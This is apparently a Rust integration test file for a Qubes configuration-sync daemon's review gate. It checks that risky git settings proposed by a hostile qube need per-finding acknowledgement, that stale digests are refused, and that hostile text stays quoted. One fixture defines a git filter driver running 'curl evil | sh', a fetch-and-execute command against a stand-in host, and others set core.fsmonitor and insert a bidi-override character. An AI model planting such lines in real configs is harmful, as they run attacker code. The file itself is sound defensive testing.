//! The review gate through the real backend and its real store, with a hostile qube
//! writing the spool as the receiver would: the attributes/driver pair in one
//! submission, in two in both orders and with one half already in the store; findings
//! in rejected and accepted hunks; an acknowledgement that must not cover a second
//! finding of the same rule; stale digests (store moved on, proposal decided elsewhere).

use std::path::Path;
use std::sync::Arc;

use qcs_core::review::GateError;
use qcs_daemon::backend::{Backend, BackendConfig, BackendError};
use qcs_protocol::literal::{pid, rp, vm};

const ATTRIBUTES: &str = ".config/git/attributes";
const HARMLESS_ATTRIBUTES: &[u8] = b"*.pdf binary\n";
const GITCONFIG: &[u8] = b"[user]\n\tname = A\n";
const DRIVER: &[u8] = b"[user]\n\tname = A\n[filter \"x\"]\n\tclean = sh -c 'curl evil | sh'\n";
const SELECTS_DRIVER: &[u8] = b"*.pdf binary\n* filter=x\n";

fn backend(dir: &Path) -> Arc<Backend> {
    let config = BackendConfig {
        store_path: dir.join("store.sqlite"),
        spool_dir: Some(dir.join("spool")),
        qrexec_program: "/nonexistent/qrexec-client-vm".into(),
        max_parallel: 2,
        config_qube: "cfg".to_owned(),
        call_timeout: std::time::Duration::from_secs(5),
    };
    let admin = qubesadmin::Qubes::new(qubesadmin::SocketTransport::new(dir.join("no.sock")));
    let backend = Arc::new(Backend::open(config, admin).expect("open"));
    backend
        .with_store(|s| {
            s.create_profile(&pid("git"), "")?;
            s.put_file(&pid("git"), &rp(".gitconfig"), GITCONFIG, 0o644)?;
            s.put_file(&pid("git"), &rp(ATTRIBUTES), HARMLESS_ATTRIBUTES, 0o644)?;
            s.allow_proposals(&vm("work"), &pid("git"))?;
            Ok(())
        })
        .expect("setup");
    backend
}

/// The hostile qube's submission of `files`, spooled and ingested; returns the new
/// proposal ids in file order.
fn propose(backend: &Backend, dir: &Path, n: u32, files: &[(&str, &[u8])]) -> Vec<i64> {
    use qcs_protocol::{
        Content, ObservedMode, ProposalId, ProposeRequest, ProposedFile, SpooledProposal, Version,
    };
    let profile = qcs_protocol::profile::validate_profile_id("git").expect("profile");
    let files = files
        .iter()
        .map(|(path, content)| {
            let content = Content::new(content.to_vec()).expect("content");
            ProposedFile {
                path: qcs_protocol::path::validate_relative_path(path).expect("path"),
                mode: ObservedMode::new(0o644),
                sha256: content.sha256(),
                content,
                base_sha256: None,
            }
        })
        .collect();
    let record = qcs_protocol::to_json(&SpooledProposal {
        version: Version,
        proposal_id: ProposalId::parse(&format!("{n:020}-1")).expect("id"),
        source_qube: qcs_protocol::validate_vm_name("work").expect("name"),
        profile: profile.clone(),
        received_unix: 1,
        request: ProposeRequest {
            version: Version,
            profile,
            files,
            note: None,
        },
    });
    let spool = dir.join("spool/work");
    std::fs::create_dir_all(&spool).expect("spool");
    let before: Vec<i64> = pending(backend);
    std::fs::write(spool.join(format!("{n}.json")), record).expect("write");
    backend.ingest_spool().expect("ingest");
    let mut new: Vec<i64> = pending(backend)
        .into_iter()
        .filter(|id| !before.contains(id))
        .collect();
    new.sort();
    new
}

fn pending(backend: &Backend) -> Vec<i64> {
    backend
        .list_proposals("pending")
        .expect("list")
        .proposals
        .iter()
        .map(|p| p.id)
        .collect()
}

fn stored(backend: &Backend, path: &str) -> Vec<u8> {
    backend
        .with_store(|s| Ok(s.current_file(&pid("git"), &rp(path))?))
        .expect("file")
        .expect("exists")
        .bytes
}

fn gate_error(result: Result<u64, BackendError>) -> GateError {
    match result {
        Err(BackendError::Review(e)) => e,
        other => panic!("expected a refusal of the gate, got {other:?}"),
    }
}

/// Accepts proposal `id` with exactly its gated findings acknowledged; returns them.
fn accept_acknowledged(backend: &Backend, id: i64) -> Vec<String> {
    let view = backend.get_proposal(id).expect("view");
    backend
        .accept_proposal(id, &view.digest, &[], &view.must_acknowledge, "", "test")
        .expect("accept with every gated finding acknowledged");
    view.must_acknowledge
}

/// Accepting without acknowledgements is refused with review.unacknowledged and stores
/// nothing; returns the ids it asked for.
fn refused_without_acks(backend: &Backend, id: i64, path: &str) -> Vec<String> {
    let before = stored(backend, path);
    let view = backend.get_proposal(id).expect("view");
    let e = gate_error(backend.accept_proposal(id, &view.digest, &[], &[], "", "test"));
    assert_eq!(e.code(), "review.unacknowledged", "{e}");
    assert!(!e.ids().is_empty());
    assert_eq!(e.ids(), view.must_acknowledge.as_slice());
    assert_eq!(stored(backend, path), before);
    assert!(pending(backend).contains(&id));
    e.ids().to_vec()
}

/// Whether the review of `id` has the attributes/driver combination finding, naming the
/// attributes file as its other part.
fn has_combination(backend: &Backend, id: i64) -> bool {
    let view = backend.get_proposal(id).expect("view");
    view.findings.iter().any(|f| {
        f.rule == "git.attributes-driver"
            && f.severity.as_str() == "critical"
            && f.related.iter().any(|l| l.path == ATTRIBUTES)
    })
}

/// The worst severity among the driver's findings: the driver itself
/// (`git.filter.driver`) and, when attributes of the state after accept select it,
/// the combination (`git.attributes-driver`, with the attributes in `related`).
fn driver_severity(backend: &Backend, id: i64) -> String {
    let view = backend.get_proposal(id).expect("view");
    let rank = |s: &str| {
        ["info", "low", "medium", "high", "critical"]
            .iter()
            .position(|x| *x == s)
    };
    view.findings
        .iter()
        .filter(|f| f.rule == "git.filter.driver" || f.rule == "git.attributes-driver")
        .max_by_key(|f| rank(f.severity.as_str()))
        .map(|f| f.severity.as_str().to_owned())
        .unwrap_or_else(|| panic!("no driver finding: {:#?}", view.findings))
}

#[test]
fn the_pair_in_one_submission_needs_acknowledgements_for_each_half() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let ids = propose(
        &b,
        tmp.path(),
        1,
        &[(".gitconfig", DRIVER), (ATTRIBUTES, SELECTS_DRIVER)],
    );
    assert_eq!(ids.len(), 2);
    refused_without_acks(&b, ids[0], ".gitconfig");
    refused_without_acks(&b, ids[1], ATTRIBUTES);
    accept_acknowledged(&b, ids[0]);
    // The driver is in the store now: the attributes selecting it need their own ack.
    refused_without_acks(&b, ids[1], ATTRIBUTES);
    accept_acknowledged(&b, ids[1]);
    assert_eq!(stored(&b, ATTRIBUTES), SELECTS_DRIVER);
}

#[test]
fn driver_second_with_the_attributes_already_in_the_store_is_critical() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    // Alone (no attributes in the store) the driver has no combination finding.
    let alone = propose(&b, tmp.path(), 1, &[(".gitconfig", DRIVER)]);
    assert!(!has_combination(&b, alone[0]));
    b.reject_proposal(alone[0], "").expect("reject");
    // Attributes first, accepted with their acknowledgement.
    let attrs = propose(&b, tmp.path(), 2, &[(ATTRIBUTES, SELECTS_DRIVER)]);
    refused_without_acks(&b, attrs[0], ATTRIBUTES);
    accept_acknowledged(&b, attrs[0]);
    // Then the driver: the review sees the state after accept, with the stored
    // attributes selecting it for every file.
    let driver = propose(&b, tmp.path(), 3, &[(".gitconfig", DRIVER)]);
    assert_eq!(driver_severity(&b, driver[0]), "critical");
    assert!(has_combination(&b, driver[0]));
    let asked = refused_without_acks(&b, driver[0], ".gitconfig");
    assert!(
        asked
            .iter()
            .any(|id| id.starts_with("git.filter.driver@.gitconfig:p4#")),
        "{asked:?}"
    );
    accept_acknowledged(&b, driver[0]);
    assert_eq!(stored(&b, ".gitconfig"), DRIVER);
}

#[test]
fn attributes_second_with_the_driver_already_in_the_store_need_an_acknowledgement() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let driver = propose(&b, tmp.path(), 1, &[(".gitconfig", DRIVER)]);
    accept_acknowledged(&b, driver[0]);
    let attrs = propose(&b, tmp.path(), 2, &[(ATTRIBUTES, SELECTS_DRIVER)]);
    let asked = refused_without_acks(&b, attrs[0], ATTRIBUTES);
    assert!(
        asked
            .iter()
            .any(|id| id.contains(&format!("@{ATTRIBUTES}:p2#"))),
        "the line selecting the driver must be acknowledged: {asked:?}"
    );
    accept_acknowledged(&b, attrs[0]);
}

/// Two changes eight lines apart (two hunks); the second sets core.fsmonitor.
const TWO_HUNKS_BASE: &[u8] =
    b"[user]\n\tname = A\n[core]\n\t# 1\n\t# 2\n\t# 3\n\t# 4\n\t# 5\n\t# 6\n\t# 7\n\t# 8\n\teditor = vim\n";
const TWO_HUNKS: &[u8] =
    b"[user]\n\tname = B\n[core]\n\t# 1\n\t# 2\n\t# 3\n\t# 4\n\t# 5\n\t# 6\n\t# 7\n\t# 8\n\tfsmonitor = /tmp/x\n";

#[test]
fn a_finding_in_a_rejected_hunk_needs_no_ack_in_an_accepted_hunk_it_does() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    b.with_store(|s| Ok(s.put_file(&pid("git"), &rp(".gitconfig"), TWO_HUNKS_BASE, 0o644)?))
        .expect("base");
    let id = propose(&b, tmp.path(), 1, &[(".gitconfig", TWO_HUNKS)])[0];
    let view = b.get_proposal(id).expect("view");
    assert_eq!(view.diff.hunks.len(), 2, "{:?}", view.diff.hunks);
    let (first, second) = (view.diff.hunks[0].id.clone(), view.diff.hunks[1].id.clone());
    let monitor = view
        .findings
        .iter()
        .find(|f| f.rule == "git.core.fsmonitor")
        .expect("fsmonitor finding");
    assert!(monitor.gated);
    assert_eq!(monitor.hunks, vec![second.clone()]);
    // The hunk with the finding accepted: its acknowledgement is required.
    let e = gate_error(b.accept_proposal(id, &view.digest, &[second], &[], "", "test"));
    assert_eq!(e.code(), "review.unacknowledged");
    assert_eq!(e.ids(), std::slice::from_ref(&monitor.id));
    assert_eq!(stored(&b, ".gitconfig"), TWO_HUNKS_BASE);
    // Only the other hunk: no acknowledgement needed, and only it is stored.
    b.accept_proposal(id, &view.digest, &[first], &[], "name only", "test")
        .expect("the finding is in the rejected hunk");
    let now = String::from_utf8(stored(&b, ".gitconfig")).unwrap();
    assert!(
        now.contains("name = B") && !now.contains("fsmonitor"),
        "{now}"
    );
}

#[test]
fn one_acknowledgement_does_not_cover_a_second_finding_of_the_same_rule() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let twice: &[u8] =
        b"[user]\n\tname = A\n[core]\n\tfsmonitor = /tmp/a\n\t# 1\n\t# 2\n\t# 3\n\t# 4\n\t# 5\n\t# 6\n\t# 7\n\tfsmonitor = /tmp/b\n";
    let id = propose(&b, tmp.path(), 1, &[(".gitconfig", twice)])[0];
    let view = b.get_proposal(id).expect("view");
    let monitors: Vec<&str> = view
        .findings
        .iter()
        .filter(|f| f.rule == "git.core.fsmonitor")
        .map(|f| f.id.as_str())
        .collect();
    assert_eq!(monitors.len(), 2, "{:#?}", view.findings);
    let mut acks: Vec<String> = view
        .must_acknowledge
        .iter()
        .filter(|id| id.as_str() != monitors[1])
        .cloned()
        .collect();
    let e = gate_error(b.accept_proposal(id, &view.digest, &[], &acks, "", "test"));
    assert_eq!(e.ids(), [monitors[1].to_owned()]);
    // Naming the rule instead of the finding is not an acknowledgement.
    acks.push("git.core.fsmonitor".to_owned());
    let e = gate_error(b.accept_proposal(id, &view.digest, &[], &acks, "", "test"));
    assert_eq!(e.code(), "review.unknown-finding");
    assert_eq!(stored(&b, ".gitconfig"), GITCONFIG);
    assert!(pending(&b).contains(&id));
}

#[test]
fn a_stale_digest_is_refused_and_nothing_changes() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let id = propose(&b, tmp.path(), 1, &[(".gitconfig", DRIVER)])[0];
    let shown = b.get_proposal(id).expect("view");
    // The store moves on between view and accept: the other file of the profile now
    // selects the driver, which the reviewer was not shown.
    b.with_store(|s| Ok(s.put_file(&pid("git"), &rp(ATTRIBUTES), SELECTS_DRIVER, 0o644)?))
        .expect("store moves on");
    let e =
        gate_error(b.accept_proposal(id, &shown.digest, &[], &shown.must_acknowledge, "", "test"));
    assert_eq!(e.code(), "review.stale");
    assert_eq!(stored(&b, ".gitconfig"), GITCONFIG);
    assert!(pending(&b).contains(&id));
    let again = b.get_proposal(id).expect("view");
    assert_ne!(again.digest, shown.digest);
    // The same view is stable while nothing changes.
    assert_eq!(b.get_proposal(id).expect("view").digest, again.digest);
    // Decided elsewhere (rejected from another client) between view and accept.
    b.reject_proposal(id, "from the CLI").expect("reject");
    let e =
        gate_error(b.accept_proposal(id, &again.digest, &[], &again.must_acknowledge, "", "test"));
    assert_eq!(e.code(), "review.stale");
    assert_eq!(stored(&b, ".gitconfig"), GITCONFIG);
    // A digest that was never shown is stale too.
    let other = propose(&b, tmp.path(), 2, &[(".gitconfig", DRIVER)])[0];
    let view = b.get_proposal(other).expect("view");
    let e = gate_error(b.accept_proposal(other, "0123", &[], &view.must_acknowledge, "", "test"));
    assert_eq!(e.code(), "review.stale");
}

/// A finding's message crosses the wire as a template and arguments: the template and
/// the reason are texts of the rules (translatable), the qube's text is an argument
/// shown as it is — a `{placeholder}`, markup or a hidden character in it is never
/// translated, expanded or passed through unquoted.
#[test]
fn a_hostile_value_in_a_finding_message_stays_a_quoted_argument() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let hostile = "[user]\n\tname = A\n[core]\n\tfsmonitor = {why}<b>\u{202e}x\n";
    let id = propose(&b, tmp.path(), 1, &[(".gitconfig", hostile.as_bytes())])[0];
    let view = b.get_proposal(id).expect("view");
    let catalog: std::collections::BTreeSet<String> = qcs_core::risk::Engine::shared()
        .message_catalog()
        .into_iter()
        .map(|(t, _)| t)
        .collect();
    let f = view
        .findings
        .iter()
        .find(|f| f.rule == "git.core.fsmonitor")
        .unwrap_or_else(|| panic!("{:#?}", view.findings));
    let text = f.text.as_ref().expect("a template on the wire");
    assert!(catalog.contains(&text.template), "{:?}", text.template);
    let value = text
        .args
        .iter()
        .find(|a| a.name == "value")
        .expect("value argument");
    assert!(!value.translate);
    assert_eq!(value.value, "{why}<b><U+202E>x");
    // Every text handed to translation is a text of the rules, never the qube's.
    let translate = |s: &str| {
        assert!(catalog.contains(s), "asked to translate {s:?}");
        format!("«{s}»")
    };
    let shown = f.message_with(&translate);
    assert!(shown.contains("{why}<b><U+202E>x"), "{shown}");
    assert!(!shown.contains('\u{202e}'), "{shown}");
    assert_eq!(f.message_with(&|s: &str| s.to_owned()), f.message);
}

/// The inbox's risk marker of `id` from `ListProposals`.
fn listed_risk(backend: &Backend, id: i64) -> Option<qcs_client::types::ProposalRisk> {
    backend
        .list_proposals("")
        .expect("list")
        .proposals
        .into_iter()
        .find(|p| p.id == id)
        .expect("listed")
        .risk
}

#[test]
fn a_cached_review_is_rebuilt_when_the_store_or_the_proposal_changes_under_it() {
    use qcs_client::types::Severity;
    let tmp = tempfile::tempdir().expect("tempdir");
    let b = backend(tmp.path());
    let id = propose(&b, tmp.path(), 1, &[(".gitconfig", DRIVER)])[0];
    // Listing never builds a review: the marker is unknown until one was built.
    assert_eq!(listed_risk(&b, id), None);
    assert_eq!(b.warm_reviews().expect("warm"), 1);
    assert_eq!(
        b.warm_reviews().expect("warm again"),
        0,
        "kept, not rebuilt"
    );
    let first = b.get_proposal(id).expect("view");
    let risk = listed_risk(&b, id).expect("known after the review was built");
    assert_eq!(
        risk.gated as usize,
        first.must_acknowledge.len(),
        "{first:?}"
    );
    assert_eq!(
        risk.worst,
        first
            .findings
            .iter()
            .map(|f| f.severity)
            .max_by_key(|s| s.rank())
    );
    // Served again for the same state: the same reply, byte for byte.
    assert_eq!(
        b.get_proposal_json(id).expect("json"),
        b.get_proposal_json(id).expect("json")
    );
    // The store changes under it: the other file now selects the driver. The cached
    // review is not served: rebuilt, a new digest, the combination now found, and the
    // marker unknown again until then.
    b.with_store(|s| Ok(s.put_file(&pid("git"), &rp(ATTRIBUTES), SELECTS_DRIVER, 0o644)?))
        .expect("store moves on");
    assert_eq!(listed_risk(&b, id), None, "the old marker is not shown");
    let second = b.get_proposal(id).expect("view");
    assert_ne!(second.digest, first.digest);
    assert!(has_combination(&b, id), "{second:?}");
    assert_eq!(
        listed_risk(&b, id).expect("known").worst,
        Some(Severity::Critical)
    );
    // The digest shown before the change is stale; the new one passes the gate.
    let e =
        gate_error(b.accept_proposal(id, &first.digest, &[], &first.must_acknowledge, "", "test"));
    assert_eq!(e.code(), "review.stale");
    // The store goes back to the first state: the same review as then, not the second.
    b.with_store(|s| Ok(s.put_file(&pid("git"), &rp(ATTRIBUTES), HARMLESS_ATTRIBUTES, 0o644)?))
        .expect("store back");
    let third = b.get_proposal(id).expect("view");
    assert_ne!(third.digest, second.digest);
    assert_eq!(third.findings, first.findings);
    // Decided elsewhere: its status is part of the key, the reply says rejected.
    b.reject_proposal(id, "from the CLI").expect("reject");
    let decided = b.get_proposal(id).expect("view");
    assert_eq!(
        decided.summary.status,
        qcs_client::types::ProposalStatus::Rejected
    );
    assert_ne!(decided.digest, third.digest);
    let e =
        gate_error(b.accept_proposal(id, &third.digest, &[], &third.must_acknowledge, "", "test"));
    assert_eq!(e.code(), "review.stale");
    assert_eq!(stored(&b, ".gitconfig"), GITCONFIG);
}
